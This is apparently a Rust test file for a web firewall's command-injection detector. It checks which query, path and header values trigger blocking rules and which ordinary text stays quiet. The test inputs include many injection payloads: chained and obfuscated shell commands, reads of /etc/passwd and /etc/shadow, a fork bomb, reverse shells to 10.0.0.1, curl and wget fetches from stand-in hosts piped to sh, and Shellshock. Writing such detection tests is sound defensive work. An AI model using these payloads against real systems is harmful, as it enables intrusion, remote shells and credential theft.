use super::*;

fn rules_in(part: Part, name: Option<&str>, v: &str) -> Vec<u32> {
    crate::detect::testing::rule_ids(check, part, name, v)
}

fn rules(v: &str) -> Vec<u32> {
    rules_in(Part::QueryArg, Some("q"), v)
}

/// Fires a rule active at paranoia 1.
fn blocks(v: &str) -> bool {
    crate::detect::testing::any_at_level_1(&rules(v))
}

#[test]
fn chained_commands() {
    for v in [
        "127.0.0.1;cat /etc/passwd",
        "127.0.0.1 | whoami",
        "1.1.1.1 || whoami",
        "x && id",
        "x;id",
        "x|id",
        "a\nwget http://evil.example/x.sh",
        "foo; uname -a",
        "x & dir c:\\",
        "x | type c:\\windows\\win.ini",
        "x;nc -e /bin/sh 10.0.0.1 4444",
        "x;ping -c 3 127.0.0.1",
        "x;sleep 5",
        "x && curl evil.example | sh",
        "a=nc&&$a -nlvp 555",
        "||whoami>/var/www/images/output.txt||",
        ";'curl' http://evil.com",
        "test|$u wget test",
        "code=;perf --version",
        "x; python3 -c 'import os'",
        "x; time ifconfig",
        ";flock -u / whoami",
        ";cpulimit -l 100 -f whoami",
        "x;irb<<<1+2",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn substitution_and_quote_breakout() {
    for v in [
        "$(id)",
        "x$(cat /etc/passwd)",
        "`whoami`",
        "';id;'",
        "\";id;\"",
        "'; cat /etc/passwd #",
        "\"$(whoami)\"",
        "<(curl evil.example)",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn obfuscated_names() {
    for v in [
        "c'a't /etc/passwd",
        "c\"a\"t /etc/passwd",
        "x;c\\at /etc/passwd",
        "x;ca$@t /etc/passwd",
        "x;$'\\x63at' /etc/passwd",
        "x;$'cat' /etc/passwd",
        "'i'fconfig",
        "'wh'oami",
        "\"w\"get localhost",
        "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\" cmd",
        "ping``  127.0.0.1",
        "pi$()ng 127.0.0.1",
        "pi<()ng 127.0.0.1",
        "una$$me -a",
        "uname$u -a",
        "w^h^o^a^m^i",
        "v='r';cu$v\\l google.com",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn expansion_tricks() {
    for v in [
        "cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        "{,ifconfig,eth0}",
        "x;${PATH:0:1}etc${PATH:0:1}passwd",
        "$[2+2]",
        "${x#{}}",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
        "c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4/etc/passwd",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn wildcards() {
    for v in [
        "/???/c?t /etc/passwd",
        "/???/??t",
        "/etc/pas[s]wd",
        "/etc/[!q]asswd",
        "/usr/bin/[u]name -a",
        "/bi[n]/bash",
        "cat /et*/*wd",
        "{/?s?/?i?/c?t,/e??/p??s??,}",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
    // A JSONPath or an array index is no wildcard path.
    for v in ["/api/items[0]", "$[0].name", "/*", "src/**/*.js", "*/*"] {
        assert!(!blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn bare_command_lines() {
    for v in [
        "cat /etc/passwd",
        "ls -la /var/www",
        "uname -a",
        "wget http://10.0.0.1/x",
        "bash -i",
        "perl -e 'print 1'",
        "sudo cat /etc/shadow",
        "nc -lvp 4444",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
    // Paranoia 2: a command alone, or with weak arguments.
    for v in [
        "visudo",
        "systeminfo",
        "ls -la",
        "ansible all -m ping",
        "time curl coreruleset.org",
    ] {
        let r = rules(v);
        assert!(r.contains(&WEAK_COMMAND) || blocks(v), "{v:?} -> {r:?}");
    }
}

#[test]
fn windows_shapes() {
    for v in [
        "FOR /D /D %a IN (dirs) DO abc",
        "& FOR %- IN (a,b,c) DO cmd",
        "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
        "IF NOT red===red echo test",
        "if (1) equ (1) echo hey",
        "IF X%1==X/? GOTO Helpscreen",
        "if/i a==b foo",
        "IF 2 GEQ 15 echo big",
        "if not {%1} == {}",
        "x & cmd /c whoami",
        "cmd.exe /k dir",
        "powershell -nop -c iex(x)",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
    for v in [
        "ifq a==b foo",
        "iffoo a==b foo",
        "if3 a==b foo",
        "if foo==",
        "for (var i=0;i<n;i++) {}",
    ] {
        assert!(!blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn fork_bombs_and_reverse_shells() {
    for v in [
        ":(){ :|:& };:",
        "f(){ f|f& };f",
        "test() { test | test & } test",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
    ] {
        assert!(blocks(v), "{v:?} -> {:?}", rules(v));
    }
    assert!(!blocks("myfunction(){ echo hello }"));
}

#[test]
fn mail_injection_is_paranoia_2() {
    for v in [
        "\r\nMAIL FROM:<a@b.com>",
        "\r\nRCPT TO:<Postmaster>",
        "\r\nEHLO test.com",
        "\r\nDATA",
        "\r\na001 EXAMINE INBOX",
        "\r\nRETR 123",
        "\r\nd store 2 +FLAGS (\\Deleted)",
    ] {
        assert!(rules(v).contains(&MAIL_COMMAND), "{v:?} -> {:?}", rules(v));
    }
    for v in [
        "Hello! World.\ndata not found.",
        "We received this mail from Mars",
        "\nSeriously, noop",
        "\nLet's go to the store (sale time!)",
        "S: 220 foo.com Simple Mail\nC: EHLO bar.com\nS: 250 ok",
    ] {
        assert!(!rules(v).contains(&MAIL_COMMAND), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn prose_and_ordinary_values_stay_quiet() {
    for v in [
        "cats & dogs",
        "rock & roll",
        "AT&T",
        "Q&A",
        "salt; pepper",
        "a;b;c",
        "Name & ID",
        "B&W",
        "Tom & Jerry",
        "Copy & paste",
        "Find & replace",
        "Time & date",
        "hello; time he came",
        "a hero; more than",
        "Times & Schedule",
        "time warner",
        ";environment",
        ";performance",
        ";\"The quick brown fox jumped over the lazy dog\"",
        "red;$5 each",
        "a;$3 b;$4 c;$5",
        ";$a $b $c",
        "O'keefe's",
        "That's two \"O\"s in goose",
        "Size: 8\"x11\"",
        "https://shop.example/thanks?x=1&y=2",
        "color:red;background:url(/img/a.png)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "en-US,en;q=0.5",
        "php;python;ruby",
        "I use python; perl is older",
        "Does the * shine bright?",
        "What? Who? Why?",
        "The zip on my coat is stuck",
        "dont match commands that are not fully qualified like bash python and perl.",
        "Go to store.\nAt the store, shop.",
        "ping pong tables",
        "Some text (in brackets).",
        "hello [text in brackets]",
        "page[1]",
        "data[index]",
        "{\"a\":1,\"b\":[1,2]}",
        "{cat,dog}",
        "Please call me @ 5; thanks",
        "20% off; cut $5 today",
        "id",
        "cat",
        "ls foo bar",
        "Aurora MySQL; compatible -> yes > no",
        "Exponential e^x grows; more than x^n",
        "Intro\r\nmore at https://example.com/tmp/history",
        "Python; Ruby; Perl -e",
        "Update; Wget > 1.2",
    ] {
        assert!(!blocks(v), "{v:?} -> {:?}", rules(v));
    }
}

#[test]
fn path_and_headers() {
    // A URL path that ends in a command name is a page, not a command.
    assert!(rules_in(Part::Path, None, "/products/curl").is_empty());
    assert!(rules_in(Part::Path, None, "/download/cat").is_empty());
    assert!(rules_in(Part::Path, None, "/a;jsessionid=1/b").is_empty());
    // ... but a command chained into it is.
    assert!(!rules_in(Part::Path, None, "/ping/1.1.1.1;cat /etc/passwd").is_empty());
    for ua in [
        "curl/8.4.0",
        "Wget/1.21.4 (linux-gnu)",
        "python-requests/2.31.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    ] {
        assert!(
            rules_in(Part::Header, Some("user-agent"), ua).is_empty(),
            "{ua}"
        );
    }
    assert!(
        !rules_in(
            Part::Header,
            Some("user-agent"),
            "() { :; }; /bin/bash -c 'cat /etc/passwd'"
        )
        .is_empty()
    );
}

#[test]
fn glob_matcher() {
    assert!(names::glob_match(b"/???/c?t", b"/bin/cat"));
    assert!(names::glob_match(b"/e*/p*d", b"/etc/passwd"));
    assert!(names::glob_match(b"/etc/[m-z]asswd", b"/etc/passwd"));
    assert!(!names::glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
    assert!(names::glob_match(b"/[e///]tc", b"/etc"));
    assert!(!names::glob_match(b"/???/c?t", b"/bin/ls"));
}

#[test]
fn long_and_odd_input_is_bounded() {
    let long = "a;".repeat(20_000);
    let _ = rules(&long);
    let nested = "$(".repeat(5_000);
    let _ = rules(&nested);
    let quotes = "'\"`".repeat(5_000);
    let _ = rules(&quotes);
    let _ = rules("${");
    let _ = rules("$'\\x");
    let _ = rules("\\");
    let _ = rules("é;ç|ü");
}

#[test]
fn unclosed_quotes_end_the_scan() {
    // Each pass must stop at the end of the input, not spin to the token cap.
    let v = "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\"";
    for q in [Quote::None, Quote::Single, Quote::Double] {
        let mut lx = Lexer::new(v.as_bytes(), q);
        let mut n = 0;
        while lx.next_token() != Tok::End {
            n += 1;
            assert!(n < 64, "{q:?}: no end");
        }
    }
}

/// The finding shows the separator, the command and its arguments: not the
/// legitimate value before them.
#[test]
fn matched_is_the_command_only() {
    let m = |v: &str| crate::detect::testing::matched(check, Part::QueryArg, Some("q"), v);
    for (v, rule, want) in [
        ("example.com; cat /etc/passwd", CHAINED, "; cat /etc/passwd"),
        ("127.0.0.1 && whoami", CHAINED, "&& whoami"),
        (
            "name $(curl http://x.test/a.sh)",
            CHAINED,
            "$(curl http://x.test/a.sh",
        ),
        ("a.pdf;c'a't /etc/hosts", OBFUSCATED, ";c'a't /etc/hosts"),
        ("a.pdf; cat /e??/p?sswd", WILDCARD_PATH, "/e??/p?sswd"),
        (
            "x; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            REVERSE_SHELL,
            "/dev/tcp/10.0.0.1/4242",
        ),
        ("cat /etc/passwd", COMMAND_LINE, "cat /etc/passwd"),
        (
            "a\nwget http://evil.example/x.sh",
            COMMAND_LINE,
            "wget http://evil.example/x.sh",
        ),
        (
            "a.txt\r\nMAIL FROM:<a@b.com>",
            MAIL_COMMAND,
            "MAIL FROM:<a@b.com>",
        ),
    ] {
        let got = m(v);
        let text = got
            .iter()
            .find(|(r, _)| *r == rule)
            .map(|(_, t)| t.as_str())
            .unwrap_or_else(|| panic!("{rule} not reported for {v:?}: {got:?}"));
        assert_eq!(text, want, "{rule} in {v:?}");
    }
}
